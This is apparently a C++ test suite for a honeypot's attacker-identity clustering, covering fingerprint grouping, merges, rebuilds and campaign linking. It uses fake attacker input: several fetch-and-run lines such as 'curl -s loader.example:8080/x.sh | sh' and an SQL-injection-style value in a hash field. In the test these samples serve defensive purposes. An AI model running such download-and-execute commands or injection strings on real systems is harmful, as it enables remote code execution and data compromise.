// Identities in `decnet serve`, fed by what deckies and the prober send: three actors, each
// rotating through five addresses with its own client JA3 and SSH server HASSH, among fifty
// unrelated scanners (some with JA3s of their own, some sharing a common client's) come out as
// exactly three multi-address identities; an address carrying one actor's JA3 and another's
// HASSH merges them, and the merge is undone when that address's fingerprints move on; dropped
// files and download hosts link addresses that show no fingerprint. `decnet identities rebuild`
// on the same database then changes nothing, and on a database stripped of its identities
// gives the same grouping back.
#include <gtest/gtest.h>

#include <algorithm>
#include <cstdio>
#include <map>
#include <set>
#include <string>

#include "serve_support.h"

namespace decnet::app {
namespace {

using namespace decnet::testing;

std::string line(int second, const std::string& decky, const std::string& app,
                 const std::string& msgid, const std::string& sd) {
  char ts[64];
  std::snprintf(ts, sizeof ts, "2026-05-02T08:%02d:%02d.000000+00:00", second / 60 % 60,
                second % 60);
  return octet_frame(std::string("<134>1 ") + ts + " " + decky + " " + app + " - " + msgid +
                     " [relay@55555 " + sd + "]");
}

std::string hex32(const std::string& seed) {
  // A fixed-width hex fingerprint for a name (not a real MD5: the shape is what matters).
  std::string out;
  for (std::size_t i = 0; out.size() < 32; ++i) {
    char b[3];
    std::snprintf(b, sizeof b, "%02x",
                  static_cast<unsigned>(static_cast<unsigned char>(seed[i % seed.size()]) + i));
    out += b;
  }
  return out.substr(0, 32);
}

std::string ja3(int second, const std::string& ip, const std::string& fingerprint) {
  return line(second, "decky-01", "sniffer", "tls_client_hello",
              "src_ip=\"" + ip + "\" ja3=\"" + hex32(fingerprint) + "\"");
}

std::string hassh(int second, const std::string& ip, const std::string& fingerprint) {
  return line(
      second, "decnet-prober", "prober", "hassh_fingerprint",
      "target_ip=\"" + ip + "\" target_port=\"22\" hassh_server=\"" + hex32(fingerprint) + "\"");
}

std::string login(int second, const std::string& ip) {
  return line(second, "decky-02", "ssh", "connect", "src_ip=\"" + ip + "\" src_port=\"40000\"");
}

class ServeIdentities : public ::testing::Test {
 protected:
  void SetUp() override { ASSERT_TRUE(serve_.wait_ready()) << serve_.output(); }
  void send(const std::string& stream) {
    TcpClient client(serve_.tcp_port());
    ASSERT_TRUE(client.send(stream));
  }
  std::int64_t sql(const std::string& query) { return sqlite_int(serve_.db(), query).value_or(-1); }
  // Attacker address -> the identity it belongs to now, as the API shows it.
  std::map<std::string, std::string> grouping() {
    std::map<std::string, std::string> out;
    const auto r = serve_.api("GET", "/api/v1/attackers?limit=1000");
    for (const auto& a : r.body["data"]) {
      out[a["ip"].get<std::string>()] =
          a["identity_id"].is_string() ? a["identity_id"].get<std::string>() : "";
    }
    return out;
  }
  // Addresses grouped by identity ("" for those not placed yet).
  std::set<std::set<std::string>> groups() {
    std::map<std::string, std::set<std::string>> by;
    for (const auto& [ip, identity] : grouping()) by[identity].insert(ip);
    std::set<std::set<std::string>> out;
    for (auto& [_, ips] : by) out.insert(ips);
    return out;
  }
  ServeProcess serve_{{{"DECNET_IDENTITY_COMMON_AFTER", "5"}}};
};

std::string actor_ip(int actor, int address) {
  return "198.51.100." + std::to_string(10 + actor * 10 + address);
}

TEST_F(ServeIdentities, ThreeRotatingActorsAmongScannersAreThreeIdentities) {
  std::string stream;
  int t = 0;
  for (int address = 0; address < 5; ++address) {
    for (int actor = 0; actor < 3; ++actor) {
      const auto ip = actor_ip(actor, address);
      stream += login(++t, ip);
      stream += ja3(++t, ip, "actor-ja3-" + std::to_string(actor));
      stream += hassh(++t, ip, "actor-hassh-" + std::to_string(actor));
    }
  }
  for (int s = 0; s < 50; ++s) {
    const auto ip = "203.0.113." + std::to_string(10 + s);
    stream += login(++t, ip);
    // A third bring their own JA3, a third a common client's (shared by 17 > 5: tooling).
    if (s % 3 == 1) stream += ja3(++t, ip, "scanner-" + std::to_string(s));
    if (s % 3 == 2) stream += ja3(++t, ip, "curl");
  }
  send(stream);
  ASSERT_TRUE(wait_until([&] { return sql("SELECT COUNT(*) FROM attackers") == 65; }))
      << serve_.output();
  ASSERT_TRUE(wait_until([&] {
    return sql("SELECT COUNT(*) FROM attackers WHERE identity_id IS NULL") == 0 &&
           serve_.api("GET", "/api/v1/identities?min_members=2").body["total"] == 3;
  })) << serve_.output();
  // Stable: nothing else merged while the rest of the evidence landed.
  ASSERT_TRUE(wait_until([&] { return groups().size() == 53; }));
  const auto listed = serve_.api("GET", "/api/v1/identities?min_members=2");
  ASSERT_EQ(listed.body["data"].size(), 3u) << listed.raw;
  std::set<std::set<std::string>> expected_multi;
  for (int actor = 0; actor < 3; ++actor) {
    std::set<std::string> ips;
    for (int address = 0; address < 5; ++address) ips.insert(actor_ip(actor, address));
    expected_multi.insert(ips);
  }
  std::set<std::set<std::string>> multi;
  for (const auto& g : groups()) {
    if (g.size() > 1) multi.insert(g);
  }
  EXPECT_EQ(multi, expected_multi);
  for (const auto& identity : listed.body["data"]) {
    EXPECT_EQ(identity["observation_count"], 5) << identity;
    ASSERT_EQ(identity["ja3_hashes"].size(), 1u) << identity;
    ASSERT_EQ(identity["hassh_hashes"].size(), 1u) << identity;
    const auto detail =
        serve_.api("GET", "/api/v1/identities/" + identity["uuid"].get<std::string>());
    ASSERT_EQ(detail.status, 200) << detail.raw;
    EXPECT_EQ(detail.body["observation_count_live"], 5);
    EXPECT_EQ(detail.body["members"].size(), 5u);
    EXPECT_FALSE(detail.body["multi_actor_suspected"].get<bool>());
  }
  EXPECT_EQ(serve_.api("GET", "/api/v1/identities/00000000-0000-4000-8000-000000000000").status,
            404);
  EXPECT_EQ(serve_.api("GET", "/api/v1/identities?min_members=0").status, 422);
}

TEST_F(ServeIdentities, ABridgeMergesTwoActorsAndItsDepartureUndoesIt) {
  const auto token = serve_.admin_token();
  const auto ticket = curl_json(serve_.api_port(), "POST", "/api/v1/auth/sse-ticket", token);
  ASSERT_EQ(ticket.status, 200) << ticket.raw;
  ChildProcess events({"curl", "-s", "-N",
                       "http://127.0.0.1:" + std::to_string(serve_.api_port()) +
                           "/api/v1/stream?topics=identity.%3E&ticket=" +
                           ticket.body["ticket"].get<std::string>()});
  ASSERT_TRUE(wait_until([&] { return events.output().find(": connected") != std::string::npos; }))
      << events.output();
  std::string stream;
  int t = 0;
  for (int actor = 0; actor < 2; ++actor) {
    for (int address = 0; address < 3; ++address) {
      stream += ja3(++t, actor_ip(actor, address), "actor-ja3-" + std::to_string(actor));
      stream += hassh(++t, actor_ip(actor, address), "actor-hassh-" + std::to_string(actor));
    }
  }
  send(stream);
  ASSERT_TRUE(wait_until([&] {
    const auto g = grouping();
    return g.size() == 6 &&
           std::none_of(g.begin(), g.end(), [](const auto& p) { return p.second.empty(); }) &&
           groups().size() == 2;
  })) << serve_.output();
  const auto before = grouping();
  // One address shows actor 0's client and actor 1's server: the two become one identity.
  const std::string bridge = "192.0.2.77";
  send(ja3(t + 1, bridge, "actor-ja3-0") + hassh(t + 2, bridge, "actor-hassh-1"));
  t += 2;
  ASSERT_TRUE(wait_until([&] { return groups().size() == 1 && grouping().size() == 7; }))
      << serve_.output();
  ASSERT_TRUE(wait_until([&] {
    return events.output().find("event: identity.merged") != std::string::npos;
  })) << events.output();
  const auto merged = grouping();
  const auto winner = std::min(before.at(actor_ip(0, 0)), before.at(actor_ip(1, 0)));
  EXPECT_EQ(merged.at(actor_ip(0, 0)), winner);  // the lexicographically smallest survives
  // Each actor's addresses joined its first one's identity as they came (observation.linked);
  // the bridge joined actor 0's, and the other actor's identity was merged into the winner.
  EXPECT_EQ(sql("SELECT COUNT(*) FROM attacker_identities"), 2);
  EXPECT_EQ(
      sql("SELECT COUNT(*) FROM attacker_identities WHERE merged_into_uuid = '" + winner + "'"), 1);
  // The bridge's tooling moves on (later sightings): nothing holds the two actors together.
  send(ja3(t + 1, bridge, "bridge-new-ja3") + hassh(t + 2, bridge, "bridge-new-hassh"));
  t += 2;
  ASSERT_TRUE(wait_until([&] { return groups().size() == 3; })) << serve_.output();
  ASSERT_TRUE(wait_until([&] {
    return events.output().find("event: identity.unmerged") != std::string::npos;
  })) << events.output();
  const auto after = grouping();
  for (int actor = 0; actor < 2; ++actor) {
    for (int address = 0; address < 3; ++address) {
      EXPECT_EQ(after.at(actor_ip(actor, address)), before.at(actor_ip(actor, address)));
    }
  }
  EXPECT_EQ(sql("SELECT COUNT(*) FROM attacker_identities WHERE merged_into_uuid IS NOT NULL"), 0);
  EXPECT_EQ(sql("SELECT COUNT(*) FROM attacker_identities"), 3);  // the bridge got its own
  events.stop(SIGTERM);
  EXPECT_NE(events.output().find("event: identity.formed"), std::string::npos);
  EXPECT_NE(events.output().find("event: identity.observation.linked"), std::string::npos);
}

TEST_F(ServeIdentities, DroppedFilesAndDownloadHostsLinkAddressesWithoutFingerprints) {
  const std::string sha(64, 'a');
  std::string stream;
  stream += line(1, "decky-03", "ssh", "file_captured",
                 "src_ip=\"198.51.100.201\" sha256=\"" + sha + "\" stored_as=\"x\"");
  stream += line(2, "decky-03", "ssh", "file_captured",
                 "src_ip=\"198.51.100.202\" sha256=\"" + sha + "\" stored_as=\"y\"");
  stream += line(3, "decky-03", "bash", "command",
                 "src_ip=\"198.51.100.203\" command=\"cd /tmp; wget http://Loader.Example:8080/x.sh"
                 "; sh x.sh\"");
  stream += line(4, "decky-04", "bash", "command",
                 "src_ip=\"198.51.100.204\" command=\"curl -s loader.example:8080/x.sh | sh\"");
  // Not a SHA-256: a hostile line cannot plant arbitrary text as a payload.
  stream += line(5, "decky-03", "ssh", "file_captured",
                 "src_ip=\"198.51.100.205\" sha256=\"' OR 1=1 --\" stored_as=\"z\"");
  send(stream);
  ASSERT_TRUE(wait_until([&] {
    const auto g = grouping();
    return g.size() == 5 && !g.at("198.51.100.201").empty() && !g.at("198.51.100.205").empty() &&
           g.at("198.51.100.201") == g.at("198.51.100.202") &&
           g.at("198.51.100.203") == g.at("198.51.100.204");
  })) << serve_.output();
  const auto g = grouping();
  EXPECT_NE(g.at("198.51.100.201"), g.at("198.51.100.203"));
  EXPECT_NE(g.at("198.51.100.205"), g.at("198.51.100.201"));
  EXPECT_EQ(sql("SELECT COUNT(*) FROM identity_evidence WHERE kind = 'c2' AND value = "
                "'loader.example:8080'"),
            2);
  EXPECT_EQ(sql("SELECT COUNT(*) FROM identity_evidence WHERE kind = 'payload'"), 2);
}

TEST_F(ServeIdentities, RebuildAgreesWithTheIncrementalIdentities) {
  std::string stream;
  int t = 0;
  for (int actor = 0; actor < 3; ++actor) {
    for (int address = 0; address < 4; ++address) {
      stream += ja3(++t, actor_ip(actor, address), "actor-ja3-" + std::to_string(actor));
    }
  }
  stream += ja3(t + 1, "192.0.2.5", "actor-ja3-0") + hassh(t + 2, "192.0.2.5", "h-x");
  t += 2;
  stream += hassh(++t, actor_ip(1, 0), "h-x");  // joins actors 0 and 1 through 192.0.2.5
  for (int s = 0; s < 10; ++s) stream += login(++t, "203.0.113." + std::to_string(100 + s));
  send(stream);
  ASSERT_TRUE(wait_until([&] {
    return grouping().size() == 23 &&
           sql("SELECT COUNT(*) FROM attackers WHERE identity_id IS NULL") == 0 &&
           groups().size() == 12;
  })) << serve_.output();
  const auto incremental = groups();
  const auto identities = grouping();
  ASSERT_EQ(serve_.child().stop(SIGTERM), 0) << serve_.output();

  const std::map<std::string, std::string> env = {{"DECNET_DATA_DIR", serve_.data_dir().string()},
                                                  {"DECNET_IDENTITY_COMMON_AFTER", "5"}};
  auto same = run_command({decnet_binary(), "identities", "rebuild"}, env);
  ASSERT_EQ(same.status, 0) << same.output;
  EXPECT_NE(same.output.find("created=0 merged=0 unmerged=0 relinked=0"), std::string::npos)
      << same.output;

  // Without any identity: the rebuild alone finds the same grouping.
  ASSERT_EQ(sql("SELECT COUNT(*) FROM identity_evidence") > 0, true);
  run_command({"sqlite3", serve_.db().string(),
               "UPDATE attackers SET identity_id = NULL; DELETE FROM attribution_state; "
               "DELETE FROM attacker_identities;"});
  ASSERT_EQ(sql("SELECT COUNT(*) FROM attacker_identities"), 0);
  ASSERT_EQ(sql("SELECT COUNT(*) FROM attackers WHERE identity_id IS NULL"), 23);
  auto fresh = run_command({decnet_binary(), "identities", "rebuild"}, env);
  ASSERT_EQ(fresh.status, 0) << fresh.output;
  EXPECT_NE(fresh.output.find("unlinked_given_identity=10"), std::string::npos) << fresh.output;
  serve_.restart();
  ASSERT_TRUE(serve_.wait_ready()) << serve_.output();
  EXPECT_EQ(groups(), incremental);
  EXPECT_NE(grouping(), identities);  // new rows, same grouping
}

// The reference's fixture 5: two operators with their own tools (JA3 and HASSH differ) sharing
// a loader and its download host stay two identities, and are one campaign.
TEST_F(ServeIdentities, TwoOperatorsSharingInfrastructureAreTwoIdentitiesAndOneCampaign) {
  const std::string sha(64, 'b');
  std::string stream;
  int t = 0;
  for (const auto& [ip, tool] :
       {std::pair<std::string, std::string>{"198.51.100.61", "op-a"}, {"198.51.100.62", "op-b"}}) {
    stream += ja3(t + 1, ip, tool + "-ja3") + hassh(t + 2, ip, tool + "-hassh");
    t += 2;
    stream += line(++t, "decky-05", "ssh", "file_captured",
                   "src_ip=\"" + ip + "\" sha256=\"" + sha + "\" stored_as=\"l\"");
    stream += line(++t, "decky-05", "bash", "command",
                   "src_ip=\"" + ip + "\" command=\"wget http://loader.example/l.sh\"");
  }
  send(stream);
  // The campaign can form on part of the evidence (the payload before the loader's host) while
  // the rounds are still landing: wait for it to rest on all of it.
  std::string uuid;
  CurlReply detail;
  ASSERT_TRUE(wait_until(
      [&] {
        const auto listed = serve_.api("GET", "/api/v1/campaigns");
        if (listed.body["total"] != 1) return false;
        uuid = listed.body["data"][0]["uuid"].get<std::string>();
        detail = serve_.api("GET", "/api/v1/campaigns/" + uuid);
        return detail.status == 200 && detail.body["edges"].size() == 1 &&
               detail.body["edges"][0]["shared_infra"] == 1.0;
      },
      std::chrono::seconds(30)))
      << serve_.output() << detail.raw;
  const auto g = grouping();
  EXPECT_NE(g.at("198.51.100.61"), g.at("198.51.100.62"));
  EXPECT_EQ(detail.body["identity_count_live"], 2);
  EXPECT_TRUE(detail.body["edges"][0]["linked"].get<bool>());
  for (const auto& identity : detail.body["identities"]) {
    EXPECT_EQ(identity["campaign_id"], uuid);
  }
  EXPECT_EQ(serve_.api("GET", "/api/v1/campaigns/" + uuid + "/identities").body["total"], 2);
  EXPECT_EQ(serve_.api("GET", "/api/v1/campaigns/00000000-0000-4000-8000-000000000000").status,
            404);
}

// The identity and campaign channels: a snapshot first, then the events as they happen.
TEST_F(ServeIdentities, IdentityChannelSendsASnapshotThenEvents) {
  send(ja3(1, "198.51.100.91", "early"));
  ASSERT_TRUE(wait_until([&] {
    return serve_.api("GET", "/api/v1/identities").body["total"] == 1;
  })) << serve_.output();
  const auto token = serve_.admin_token();
  const auto open = [&](const std::string& path) {
    const auto ticket = curl_json(serve_.api_port(), "POST", "/api/v1/auth/sse-ticket", token);
    return std::make_unique<ChildProcess>(
        std::vector<std::string>{"curl", "-s", "-N",
                                 "http://127.0.0.1:" + std::to_string(serve_.api_port()) + path +
                                     "?ticket=" + ticket.body["ticket"].get<std::string>()});
  };
  auto identities = open("/api/v1/identities/events");
  auto campaigns = open("/api/v1/campaigns/events");
  ASSERT_TRUE(wait_until([&] {
    return identities->output().find("event: snapshot") != std::string::npos &&
           campaigns->output().find("event: snapshot") != std::string::npos;
  })) << identities->output()
      << campaigns->output();
  // The snapshot is identity rows: the identity's JA3, no address.
  EXPECT_NE(identities->output().find(hex32("early")), std::string::npos) << identities->output();
  send(ja3(2, "198.51.100.92", "later"));
  ASSERT_TRUE(wait_until([&] {
    return identities->output().find("event: identity.formed") != std::string::npos;
  })) << identities->output();
  EXPECT_EQ(curl_json(serve_.api_port(), "GET", "/api/v1/identities/events?ticket=nope").status,
            401);
}

}  // namespace
}  // namespace decnet::app
